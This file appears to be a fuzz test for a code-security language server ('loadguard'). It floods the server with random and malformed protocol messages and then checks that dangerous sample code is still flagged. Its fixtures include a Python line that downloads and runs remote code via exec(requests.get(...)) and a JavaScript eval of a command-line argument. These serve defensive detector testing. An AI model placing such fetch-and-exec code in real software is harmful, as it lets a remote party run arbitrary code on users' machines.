/** A target that speaks to the whole server: out of order, twice, without sense; what is open then is said rightly all the same. */

import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import {
  createConnection,
  createMessageConnection,
  type MessageConnection,
  ProposedFeatures,
  type PublishDiagnosticsParams,
  StreamMessageReader,
  StreamMessageWriter,
} from 'vscode-languageserver/node';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { DISK } from '../../server/host/configurations.ts';
import { createNodeHost } from '../../server/host/node.ts';
import { startServer } from '../../server/lsp/server.ts';
import { service } from '../kit/service.ts';
import { mutated, type Random } from './random.ts';
import { type Target, target } from './target.ts';
import { CELLS, CODE } from './texts.ts';

/** One message; `kind` says whether an answer is awaited, and whether it is cancelled at once. */
interface Message {
  readonly kind: 'notify' | 'request' | 'cancel';
  readonly method: string;
  readonly params: unknown;
}

const DOCUMENTS = [
  'file:///nowhere/a.py',
  'file:///nowhere/b.ts',
  'file:///nowhere/c.js',
  'untitled:Untitled-1',
] as const;
const LANGUAGE_IDS: Readonly<Record<string, string>> = {
  [DOCUMENTS[0]]: 'python',
  [DOCUMENTS[1]]: 'typescript',
  [DOCUMENTS[2]]: 'javascript',
  [DOCUMENTS[3]]: 'python',
};
const LAST = 'file:///nowhere/last.py';
const LAST_TEXT = 'import requests\nexec(requests.get("https://a.example").text)\n';
const NOTEBOOK = 'file:///nowhere/n.ipynb';
const CELL = (index: number) => `vscode-notebook-cell:/nowhere/n.ipynb#${index}`;
/** Milliseconds that the server may take for all that it was sent. */
const PATIENCE = 60_000;

const SENSELESS = [
  null,
  undefined,
  0,
  '',
  [],
  {},
  'x',
  { textDocument: null },
  { textDocument: { uri: 3 } },
  { changes: 1 },
];

const METHODS = [
  ...['textDocument/hover', 'textDocument/codeAction', 'codeAction/resolve', 'workspace/executeCommand', 'no/such'],
  ...['loadguard/storedFindings', 'loadguard/standing', 'loadguard/page', 'loadguard/show', 'loadguard/preview'],
  'loadguard/inventory',
];
const NOTIFICATIONS = [
  ...['textDocument/didOpen', 'textDocument/didChange', 'textDocument/didClose', 'textDocument/didSave'],
  ...['notebookDocument/didOpen', 'notebookDocument/didChange', 'notebookDocument/didClose', 'no/such'],
  ...['workspace/didChangeWatchedFiles', 'workspace/didChangeConfiguration', 'loadguard/trust', 'loadguard/network'],
  ...['$/cancelRequest', '$/setTrace', '$/no'],
];

const position = (random: Random) => ({
  line: random.once(9) ? random.pick([-1, 99_999, 1e9]) : random.int(20),
  character: random.once(9) ? random.pick([-1, 99_999, 1e9]) : random.int(40),
});
const range = (random: Random) => ({ start: position(random), end: position(random) });

/** A message of an editor that means well, whatever it has sent before. */
function sensible(random: Random): Message {
  const uri = random.pick(DOCUMENTS);
  const language = LANGUAGE_IDS[uri] === 'python' ? 'python' : 'typescript';
  const text = mutated(random, random.pick(CODE[language]), CODE[language]);
  const textDocument = { uri, version: random.int(100), languageId: LANGUAGE_IDS[uri], text };
  switch (random.int(10)) {
    case 0:
      return { kind: 'notify', method: 'textDocument/didOpen', params: { textDocument } };
    case 1:
      return { kind: 'notify', method: 'textDocument/didClose', params: { textDocument: { uri } } };
    case 2:
    case 3:
    case 4: {
      const contentChanges = random.list(1, 3, () =>
        random.once(4) ? { text } : { range: range(random), text: text.slice(0, random.int(20)) },
      );
      return { kind: 'notify', method: 'textDocument/didChange', params: { textDocument, contentChanges } };
    }
    case 5:
      return ofNotebook(random);
    case 6:
      return request(random, 'textDocument/hover', { textDocument: { uri }, position: position(random) });
    case 7:
      return request(random, 'textDocument/codeAction', {
        textDocument: { uri },
        range: range(random),
        context: { diagnostics: [], only: random.pick([undefined, ['source.fixAll.loadguard'], ['quickfix'], []]) },
      });
    case 8:
      return request(random, random.pick(['loadguard/standing', 'loadguard/page']), random.pick([uri, 'remote-exec']));
    default:
      return { kind: 'notify', method: 'textDocument/didSave', params: { textDocument: { uri } } };
  }
}

function request(random: Random, method: string, params: unknown): Message {
  return { kind: random.once(3) ? 'cancel' : 'request', method, params };
}

function ofNotebook(random: Random): Message {
  const made = random.list(0, 4, () => random.int(6));
  const cells = made.map((index) => ({ kind: random.once(5) ? 1 : 2, document: CELL(index) }));
  const texts = made.map((index) => ({ uri: CELL(index), languageId: 'python', version: 1, text: random.pick(CELLS) }));
  if (random.once(3)) {
    const notebookDocument = { uri: NOTEBOOK, notebookType: 'jupyter-notebook', version: 1, cells };
    return {
      kind: 'notify',
      method: 'notebookDocument/didOpen',
      params: { notebookDocument, cellTextDocuments: texts },
    };
  }
  const notebookDocument = { uri: NOTEBOOK, version: random.int(50) };
  if (random.once(4)) {
    const cellTextDocuments = made.map((index) => ({ uri: CELL(index) }));
    return { kind: 'notify', method: 'notebookDocument/didClose', params: { notebookDocument, cellTextDocuments } };
  }
  const array = { start: random.int(8) - 1, deleteCount: random.int(5), cells };
  const structure = { array, didOpen: texts, didClose: made.map((index) => ({ uri: CELL(index) })) };
  const textContent = made.map((index) => ({
    document: { uri: CELL(index), version: random.int(9) },
    changes: [{ text: random.pick(CELLS) }],
  }));
  const change = { cells: random.once(2) ? { structure } : { textContent, data: cells } };
  return { kind: 'notify', method: 'notebookDocument/didChange', params: { notebookDocument, change } };
}

/** A message that nobody should send. */
function senseless(random: Random): Message {
  const params = random.once(2) ? random.pick(SENSELESS) : sensible(random).params;
  return random.once(2)
    ? request(random, random.pick(METHODS), params)
    : { kind: 'notify', method: random.pick(NOTIFICATIONS), params };
}

const server = target<{ readonly messages: readonly Message[] }>({
  name: 'server',
  tries: 6,
  make: (random) => ({
    messages: random.list(10, 120, () => (random.once(6) ? senseless(random) : sensible(random))),
  }),
  async check({ messages }) {
    const session = new Session();
    try {
      await session.start();
      await Promise.all(messages.map((it) => session.send(it)));
      await session.proveWell();
    } finally {
      session.stop();
    }
  },
});

/** A client and a server in one process, and the texts that the client knows to be open. */
class Session {
  readonly #client: MessageConnection;
  readonly #published = new Map<string, PublishDiagnosticsParams>();
  #wake = () => {};

  constructor() {
    const there = new PassThrough();
    const back = new PassThrough();
    const connection = createConnection(
      ProposedFeatures.all,
      new StreamMessageReader(there),
      new StreamMessageWriter(back),
    );
    const host = createNodeHost({ environment: {} });
    void startServer(connection, host, { files: DISK, sources: { list: async () => [], read: async () => undefined } });
    this.#client = createMessageConnection(new StreamMessageReader(back), new StreamMessageWriter(there));
    this.#client.onNotification('textDocument/publishDiagnostics', (params: PublishDiagnosticsParams) => {
      this.#published.set(params.uri, params);
      this.#wake();
    });
    this.#client.onRequest('client/registerCapability', () => null);
    this.#client.onRequest('workspace/configuration', ({ items }: { items: unknown[] }) => items.map(() => null));
    this.#client.onUnhandledNotification(() => {});
    this.#client.listen();
  }

  async start(): Promise<void> {
    await this.#client.sendRequest('initialize', { processId: null, rootUri: null, capabilities: {} });
    await this.#client.sendNotification('initialized', {});
  }

  /** Fulfilled when the message is answered, rightly or by an error, or needs no answer. */
  async send({ kind, method, params }: Message): Promise<void> {
    if (kind === 'notify') {
      await this.#client.sendNotification(method, params);
      return;
    }
    const stop = { isCancellationRequested: false, onCancellationRequested: cancelling(kind === 'cancel') };
    await inTime(
      this.#client.sendRequest(method, params, stop).catch(() => {}),
      `${method} is not answered`,
    );
  }

  /** After all, documents that are opened and changed as they should be are checked as ever. */
  async proveWell(): Promise<void> {
    await this.#client.sendNotification('workspace/didChangeConfiguration', { settings: null });
    await this.#client.sendNotification('loadguard/trust', true);
    const edit = { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: 'x = 1\n' };
    for (const [index, uri] of [LAST, ...DOCUMENTS].entries()) {
      const languageId = LANGUAGE_IDS[uri] ?? 'python';
      const given = languageId === 'python' ? LAST_TEXT : 'eval(process.argv[2]);\n';
      await this.#client.sendNotification('textDocument/didClose', { textDocument: { uri } });
      const textDocument = { uri, languageId, version: 1_000 + index, text: given };
      await this.#client.sendNotification('textDocument/didOpen', { textDocument });
      const version = 2_000 + index;
      const changes = { textDocument: { uri, version }, contentChanges: [edit] };
      await this.#client.sendNotification('textDocument/didChange', changes);
      const text = TextDocument.applyEdits(TextDocument.create(uri, languageId, 1, given), [
        { range: edit.range, newText: edit.text },
      ]);
      const language = languageId === 'python' ? 'python' : languageId === 'typescript' ? 'typescript' : 'javascript';
      const wanted = service.check({ uri, language, text }).findings.map(({ rule, range }) => ({ rule, range }));
      assert(wanted.length > 0);
      await inTime(this.#shown(uri, version, wanted), `${uri} is not checked`);
    }
  }

  async #shown(uri: string, version: number, wanted: unknown): Promise<void> {
    for (;;) {
      const last = this.#published.get(uri);
      if (last?.version === version) {
        assert.deepEqual(
          last.diagnostics.map(({ code, range }) => ({ rule: code, range })),
          wanted,
        );
        return;
      }
      await new Promise<void>((resolve) => {
        this.#wake = resolve;
      });
    }
  }

  /** Leaves the server to itself: what it is at comes to its end. */
  stop(): void {
    this.#client.dispose();
  }
}

function cancelling(isAtOnce: boolean) {
  return (listener: (event: unknown) => void) => {
    if (isAtOnce) setImmediate(() => listener(undefined));
    return { dispose: () => {} };
  };
}

async function inTime<Answer>(work: Promise<Answer>, complaint: string): Promise<Answer> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(complaint)), PATIENCE);
  });
  try {
    return await Promise.race([work, late]);
  } finally {
    clearTimeout(timer);
  }
}

export const PROTOCOL_TARGETS: readonly Target[] = [server];
